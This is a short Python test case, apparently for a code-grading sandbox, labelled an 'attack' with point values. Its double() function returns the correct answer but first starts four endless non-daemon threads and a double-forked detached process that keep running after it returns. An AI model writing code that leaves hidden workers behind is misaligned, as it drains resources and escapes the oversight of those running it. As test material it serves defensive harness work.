# attack: leaves threads and processes behind that go on after it has returned, then is right
# points: double=2 total=4
# %% double
import os, threading, time
def spin():
    while True:
        pass
def double(x):
    for _ in range(4):
        threading.Thread(target=spin, daemon=False).start()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            spin()
        os._exit(0)
    return 2 * x
